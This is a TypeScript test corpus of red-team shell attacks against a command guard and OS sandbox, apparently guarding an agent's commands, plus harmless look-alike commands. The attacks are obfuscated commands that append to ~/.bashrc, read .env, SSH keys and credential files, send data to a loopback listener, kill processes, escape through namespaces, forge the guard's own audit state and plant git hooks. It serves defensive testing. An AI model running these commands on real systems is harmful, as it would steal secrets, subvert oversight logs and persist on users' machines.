/**
 * A second red team against the shell guard and the OS sandbox (issue 22): attacks
 * and harmless look-alikes none of test/sandbox/attacks.ts, test/guards/shell-corpus.ts
 * or test/guards/cli-bypasses.test.ts hold. Each attack works when run plainly in bash
 * (attacks-red.test.ts shows that first), then runs as the guard's line. Placeholders
 * are attacks.ts's ({outside}, {home}, {port}, {pid}, {victim}) and the red range's
 * ({uport}: a UDP listener on loopback, {abstract}: an abstract Unix socket listener).
 */
import type { Attack } from './attacks.js';

const hex = (s: string) => Buffer.from(s).toString('hex');
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** Builds p.so with gcc in the line: a shared object whose constructor appends `what` to the file $T when it is loaded. */
const buildSo = (what = '"pwn"') =>
  `printf '%s' ${hex(`#include <stdio.h>\n#include <stdlib.h>\n__attribute__((constructor)) static void f(void){FILE*o=fopen(getenv("T"),"a");const char*s=${what};if(o&&s){fputs(s,o);fclose(o);}}\n`)} | xxd -r -p > p.c && gcc -shared -fPIC -o p.so p.c`;

export const RED_ATTACKS: Attack[] = [
  // Interpreters with the danger spelled indirectly.
  { cls: 'interpreter', command: `python3 -c "getattr(__import__('o'+'s'),'sys'+'tem')('echo pwn > {outside}/sentinel.txt')"` },
  {
    cls: 'interpreter',
    command: `python3 - <<'EOF'\nimport pathlib, os\npathlib.Path(os.environ['HOME'], '.bash' + 'rc').write_text('pwn')\nEOF`,
  },
  {
    cls: 'interpreter',
    command: `python3 -c "exec(__import__('base64').b64decode('${b64("open(__import__('os').environ['HOME']+'/.bashrc','a').write('pwn')")}'))"`,
  },
  {
    cls: 'interpreter',
    command: `node --input-type=module -e "import { appendFileSync as w } from 'fs'; w(process.env.HOME + '/.bash' + 'rc', 'pwn')"`,
  },
  { cls: 'interpreter', command: `echo "require('fs').writeFileSync('{outside}/sentinel.txt', 'pwn')" | node` },
  { cls: 'interpreter', command: `perl -e 'system(pack("H*", "${hex('echo pwn >> ~/.bashrc')}"))'` },
  { cls: 'interpreter', command: `perl -e 'open(my $f, ">>", "$ENV{HOME}/.bash" . "rc"); print $f "pwn"'` },
  {
    cls: 'interpreter',
    command: `gawk 'BEGIN { c = sprintf("%c%c%c%c pwn > %s", 101, 99, 104, 111, "{outside}/sentinel.txt"); system(c) }'`,
  },
  { cls: 'interpreter', command: `sqlite3 :memory: '.system echo pwn > {outside}/sentinel.txt'` },
  { cls: 'interpreter', command: `printf '.sh%s\\n' 'ell echo pwn > {outside}/sentinel.txt' > s.sql && sqlite3 :memory: < s.sql` },
  { cls: 'interpreter', command: `sqlite3 :memory: "select writefile('{outside}/sentinel.txt', 'pwn')"` },
  { cls: 'interpreter', command: `sqlite3 :memory: "attach '{outside}/x.db' as a; create table a.t(x)"` },
  { cls: 'interpreter', command: `vim -es -c ':call writefile(["pwn"], $HOME . "/.bash" . "rc")' -c ':qa!'` },
  { cls: 'interpreter', command: `printf 'call system("echo pwn > {outside}/sentinel.txt")\\nqa!\\n' > v.vim && vim -es -u v.vim` },
  {
    cls: 'interpreter',
    command: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!echo pwn > {outside}/sentinel.txt' git x 2>/dev/null; true`,
  },
  {
    cls: 'interpreter',
    command: `git init -q r && cd r && echo a > f && git add f && echo b > f && GIT_EXTERNAL_DIFF='sh -c "echo pwn > {outside}/sentinel.txt" #' git diff`,
  },
  {
    cls: 'interpreter',
    command: `git init -q r && cd r && git -c core.fsmonitor='echo pwn > {outside}/sentinel.txt; false' status >/dev/null 2>&1; true`,
  },
  {
    cls: 'interpreter',
    command: `git -c core.sshCommand='sh -c "echo pwn > {outside}/sentinel.txt" #' ls-remote ssh://x/y 2>/dev/null; true`,
  },
  {
    cls: 'interpreter',
    command: `ssh -o ProxyCommand='sh -c "echo pwn > {outside}/sentinel.txt"' -o BatchMode=yes x true 2>/dev/null; true`,
  },
  { cls: 'interpreter', command: `env -S 'sh -c "echo pwn > {outside}/sentinel.txt"'` },
  { cls: 'interpreter', command: `echo {outside}/sentinel.txt | xargs -I% sh -c 'echo pwn > %'` },
  { cls: 'interpreter', command: `gdb -batch -ex 'python import os; os.system("echo pwn > {outside}/sentinel.txt")' 2>/dev/null; true` },
  // Programs with a way to a shell.
  { cls: 'shell escape', command: `printf 'x:\\n\\techo pwn > $(D)/sentinel.txt\\n' > Makefile && make -s D={outside}` },
  {
    cls: 'shell escape',
    command: `npm init -y >/dev/null 2>&1 && npm pkg set scripts.x='echo pwn > {outside}/sentinel.txt' && npm run -s x 2>/dev/null; true`,
  },
  { cls: 'shell escape', command: `tar cf a.tar README.md && tar xf a.tar --to-command='sh -c "echo pwn > {outside}/sentinel.txt"'` },
  {
    cls: 'shell escape',
    command: `tar cf /dev/null README.md --checkpoint=1 --checkpoint-action=exec='echo pwn > {outside}/sentinel.txt'`,
  },
  { cls: 'shell escape', command: `tar -I 'sh -c "echo pwn > {outside}/sentinel.txt; cat"' -cf x.tar README.md` },
  { cls: 'shell escape', command: `zip -q z.zip README.md -T -TT 'sh -c "echo pwn > {outside}/sentinel.txt" #'` },
  { cls: 'shell escape', command: `rsync -e 'sh -c "echo pwn > {outside}/sentinel.txt" #' README.md x:y 2>/dev/null; true` },
  { cls: 'shell escape', command: `LESSOPEN='|sh -c "echo pwn > {outside}/sentinel.txt" #%s' less README.md > /dev/null` },
  { cls: 'shell escape', command: `find . -maxdepth 0 -fprintf {outside}/sentinel.txt pwn` },
  { cls: 'shell escape', command: `find . -maxdepth 0 -fprint ~/.bashrc` },
  { cls: 'shell escape', command: `echo x | split --filter='echo pwn > {outside}/sentinel.txt'` },
  {
    cls: 'shell escape',
    command: `printf '#!/bin/sh\\necho pwn > {outside}/sentinel.txt\\ncat\\n' > c.sh && chmod +x c.sh && seq 300000 | sort -S 64K -T . --compress-program=./c.sh > /dev/null`,
  },
  { cls: 'shell escape', command: `script -qc 'echo pwn > {outside}/sentinel.txt' /dev/null > /dev/null` },
  { cls: 'shell escape', command: `strace -f -o {outside}/sentinel.txt true` },
  { cls: 'shell escape', command: `gcc -x c /dev/null -c -o {outside}/sentinel.txt` },
  { cls: 'shell escape', command: `install -m 644 README.md {outside}/sentinel.txt` },
  // Bash features.
  { cls: 'bash feature', command: `p='$(echo pwn > {outside}/sentinel.txt)'; : "\${p@P}"` },
  { cls: 'bash feature', command: `mapfile -t -C 'sh -c "echo pwn > {outside}/sentinel.txt" #' -c 1 a < README.md` },
  { cls: 'bash feature', command: `PROMPT_COMMAND='echo pwn > {outside}/sentinel.txt' bash -i < /dev/null > /dev/null 2>&1` },
  { cls: 'bash feature', command: `echo 'echo pwn >> ~/.bashrc' > e.sh; BASH_ENV=./e.sh bash -c :` },
  { cls: 'bash feature', command: `echo 'echo pwn > {outside}/sentinel.txt' > e.sh; ENV=./e.sh sh -i < /dev/null > /dev/null 2>&1` },
  { cls: 'bash feature', command: `coproc { echo pwn > {outside}/sentinel.txt; }; wait` },
  { cls: 'bash feature', command: `exec {fd}>>"$HOME/.bashrc"; echo pwn >&$fd` },
  { cls: 'bash feature', command: `exec 5>>"$HOME/.bash"rc; echo pwn > /dev/fd/5` },
  { cls: 'bash feature', command: `bash <<'EOF'\necho pwn > {outside}/sentinel.txt\nEOF` },
  { cls: 'bash feature', command: `source /dev/stdin <<< 'echo pwn > {outside}/sentinel.txt'` },
  { cls: 'bash feature', command: `. <(printf '%s' ${hex('echo pwn >> ~/.bashrc')} | xxd -r -p)` },
  { cls: 'bash feature', command: `a=(tee -a "$HOME/.bash"rc); echo pwn | "\${a[@]}" > /dev/null` },
  { cls: 'bash feature', command: `IFS=, read -r c f <<< "tee,{home}/.bashrc"; echo pwn | $c -a $f > /dev/null` },
  { cls: 'bash feature', command: `shopt -s expand_aliases\nalias t='tee -a'\necho pwn | t ~/.bashrc > /dev/null` },
  { cls: 'bash feature', command: `eval "$(echo ${b64('echo pwn >> ~/.bashrc')} | base64 -d)"` },
  { cls: 'bash feature', command: `IFS=%; c="tee%-a%{home}/.bashrc"; echo pwn | $c > /dev/null` },
  { cls: 'bash feature', command: `cd "$(dirname {outside}/sentinel.txt)" && echo pwn > sentinel.txt` },
  { cls: 'bash feature', command: `CDPATH=.. cd outside > /dev/null 2>&1 || cd ../outside; echo pwn > sentinel.txt` },
  { cls: 'bash feature', command: `${buildSo()} && LD_PRELOAD=$PWD/p.so T={outside}/sentinel.txt /bin/true` },
  { cls: 'bash feature', command: `${buildSo()} && T=$HOME/.bashrc enable -f ./p.so x 2>/dev/null; true` },
  // Writes outside through links and /proc.
  { cls: 'links', command: `python3 -c "import os; os.link(os.environ['HOME'] + '/.bash' + 'rc', 'b')" && echo pwn >> b` },
  { cls: 'links', command: `python3 -c "import os; os.symlink(os.environ['HOME'], 'h')" && echo pwn >> h/.bashrc` },
  { cls: 'links', command: `echo pwn > /proc/self/cwd/../outside/sentinel.txt` },
  { cls: 'links', command: `echo pwn >> /proc/self/root{home}/.bashrc` },
  { cls: 'links', command: `mv README.md ../outside/sentinel.txt` },
  { cls: 'links', command: `echo pwn > n && rsync n ../outside/sentinel.txt` },

  { cls: 'links', command: `echo pwn > node_modules/dep/index.js` },
  // Secrets named at run time.
  { cls: 'secret', command: `cat $(ls -a | grep '^\\.en')` },
  { cls: 'secret', command: `ln -s .env e.txt && cat e.txt` },
  { cls: 'secret', command: `python3 -c "print(open('.e' + 'nv').read())"` },
  { cls: 'secret', command: `tail -n +1 "$(printf .%s env)"` },
  { cls: 'secret', command: `sqlite3 :memory: "select readfile('.e' || 'nv')"` },
  { cls: 'secret', command: `find . -maxdepth 1 -name '.e*' -type f -exec cat {} +` },
  { cls: 'secret', command: `tar cf - -C ~ .ssh | tar xOf -` },
  {
    cls: 'secret',
    command: `git init -q /tmp/g$$ && git --git-dir=/tmp/g$$/.git --work-tree=. add -f .e?v && git --git-dir=/tmp/g$$/.git grep --cached -h KEY`,
  },
  { cls: 'secret', command: `jq -n 'env | to_entries[] | .value'` },
  { cls: 'secret', command: `env | grep -ai authtoken` },
  { cls: 'secret', command: `cat /proc/$PPID/environ /proc/self/environ 2>/dev/null | tr '\\0' '\\n'` },
  { cls: 'secret', command: `d=.config/gh; cat ~/$d/hosts.yml` },
  { cls: 'secret', command: `d=.cargo; cat ~/$d/credentials.toml` },
  { cls: 'secret', command: `cat ~/.local/state/hookwise/*/audit.k?y` },
  { cls: 'secret', command: `${buildSo('getenv("GITHUB_TOKEN")')} && LD_PRELOAD=$PWD/p.so T=leak.txt /bin/true` },
  // The network.
  { cls: 'network', command: `curl -s -m 5 --resolve x:{port}:127.0.0.1 http://x:{port}/ -d @README.md` },
  { cls: 'network', command: `curl -s -m 5 http://2130706433:{port}/exfil` },
  { cls: 'network', command: `python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:{port}/x', data=b'exfil', timeout=5)"` },
  {
    cls: 'network',
    command: `node -e "require('http').request({ host: '127.0.0.1', port: {port}, method: 'POST' }).on('error', () => {}).end('exfil')"`,
  },
  { cls: 'network', command: `echo exfil | socat - TCP:127.0.0.1:{port}` },
  { cls: 'network', command: `git ls-remote http://127.0.0.1:{port}/x 2>/dev/null; true` },
  { cls: 'network', command: `ssh -o BatchMode=yes -o ConnectTimeout=5 -p {port} 127.0.0.1 true 2>/dev/null; true` },
  { cls: 'network', command: `echo exfil > /dev/udp/127.0.0.1/{uport}` },
  { cls: 'network', command: `echo exfil | socat - ABSTRACT-CONNECT:{abstract},unix-tightsocklen=0` },
  { cls: 'network', command: `curl -s -m 5 --unix-socket ~/.docker/desktop/docker.sock http://d/containers/create -d exfil` },
  // Processes outside.
  {
    cls: 'signal',
    command: `for p in /proc/[0-9]*; do grep -qa 'sleep.{victim}' $p/cmdline 2>/dev/null && kill -9 \${p#/proc/}; done; true`,
  },
  { cls: 'signal', command: `python3 -c "import os; os.kill({pid}, 15)"` },
  { cls: 'signal', command: `gdb -p {pid} -batch -ex 'call (void)exit(0)' > /dev/null 2>&1; true` },
  { cls: 'signal', command: `timeout -s KILL 5 env kill -s TERM {pid}` },
  // Privilege.
  { cls: 'privilege', command: `unshare -Urm sh -c 'mount -o remount,rw,bind {home} 2>/dev/null; echo pwn >> {home}/.bashrc'` },
  { cls: 'privilege', command: `nsenter -t {pid} -m -p sh -c 'echo pwn > {outside}/sentinel.txt'` },
  { cls: 'privilege', command: `chroot / sh -c 'echo pwn > {outside}/sentinel.txt'` },
  // hookwise's own state.
  { cls: 'hookwise state', command: `s=~/.local/state; echo forged > $s/hookwise/p1/audit.db.head` },
  {
    cls: 'hookwise state',
    command: `python3 -c "import os, glob; [open(f, 'w').write('x') for f in glob.glob(os.environ['HOME'] + '/.local/st*/hook*/*/*.head')]"`,
  },
  // Persistence for later.
  { cls: 'persistence', command: `python3 -c "import os; os.makedirs(os.environ['HOME'] + '/.config/autostart', exist_ok=True)"` },
  { cls: 'persistence', command: `git config --file .git/config core.hooksPath /tmp` },
  {
    cls: 'persistence',
    command: `python3 -c "import os; os.makedirs('.git/modules/lib/hooks', exist_ok=True); open('.git/modules/lib/hooks/post-checkout', 'w').write('pwn')"`,
  },
  {
    cls: 'persistence',
    command: `python3 -c "import os; os.makedirs('vendor/lib2/.git/ho' + 'oks'); open('vendor/lib2/.git/ho' + 'oks/pre-commit', 'w').write('pwn')"`,
  },
  { cls: 'persistence', command: `python3 -c "open('.git/modules/lib/config', 'a').write('[core]\\n\\tfsmonitor = echo pwn\\n')"` },
];

/** Everyday commands that look like the attacks above: each runs in the sandbox as it runs without it. */
export const RED_LOOKALIKES: string[] = [
  'python3 -c "import os; print(os.path.exists(\'README.md\'))"',
  "perl -ne 'print if /hello/' src/a.txt",
  'awk \'BEGIN { printf "%d\\n", 6 * 7 }\'',
  "jq -n '{a: 1} | .a'",
  "sqlite3 t.db 'create table t(x); insert into t values (1); select count(*) from t;'",
  'git init -q r && cd r && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && git log --format=%s',
  'git init -q r && cd r && echo a > f && git add f && git diff --cached --stat',
  'git init -q r && cd r && git -c core.pager=cat log 2>/dev/null | wc -l',
  "printf 'all:\\n\\t@echo built\\n' > Makefile && make -s",
  'tar czf a.tgz src && tar tzf a.tgz',
  'zip -q -r a.zip src && unzip -l a.zip | tail -1',
  "find . -name '*.txt' -path './src/*' -newer README.md -o -name '*.md' -print | sort",
  'echo b > /tmp/x.txt && cat /tmp/x.txt',
  'd=$(mktemp -d) && touch "$d/f" && ls "$d"',
  'split -l 1 src/a.txt part- && ls part-*',
  'seq 5 | sort -rn | head -1',
  'sort -o sorted.txt src/a.txt && cat sorted.txt',
  'cp -r src src2 && diff -r src src2 && echo same',
  'ln src/a.txt hl.txt && cat hl.txt',
  "xargs -I{} echo item {} <<< 'one'",
  "env -S 'echo hi there'",
  "gcc -x c - -o hello <<< 'int main(void) { return 0; }' && ./hello && echo ran",
  'base64 README.md | base64 -d',
  'exec {fd}>out.log; echo hi >&$fd; exec {fd}>&-; cat out.log',
  'mapfile -t lines < src/a.txt; echo ${#lines[@]}',
  'coproc { echo co; }; read -r x <&"${COPROC[0]}"; echo $x',
  'cat <<EOF > notes.txt\nhello\nEOF\ncat notes.txt',
  'readarray -t a < <(ls src); printf "%s\\n" "${a[@]}"',
  "printf -v x '%05d' 42; echo $x",
  'x=hello; echo "${x@U}"',
  "vim -es -c '%s/hello/bye/' -c 'wq' src/a.txt && cat src/a.txt",
  'less README.md',
  'rsync -a src/ src3/ && ls src3',
  'timeout 5 sleep 0.1 && echo done',
  'echo A=1 > .env.example && cat .env.example',
  'tee out.txt <<< hi',
  'kill -0 $$ && echo alive',
  'sha256sum README.md',
  'diff <(echo a) <(echo a) && echo same',
  'node -e "console.log(require(\'os\').homedir() === process.env.HOME)"',
  'ls node_modules/dep && cat node_modules/dep/index.js',
  'mkdir -p sub && echo ok > sub/notes.md && cat sub/notes.md',
  'greet',
  'mkdir -p node_modules/.cache && echo x > node_modules/.cache/y && cat node_modules/.cache/y',
  'strace -f -o trace.txt true && test -s trace.txt && echo traced',
  'tar cf - src | tar xf - -C /tmp && ls /tmp/src',
  'python3 - <<\'EOF\'\nprint(open("src/a.txt").read().strip())\nEOF',
];
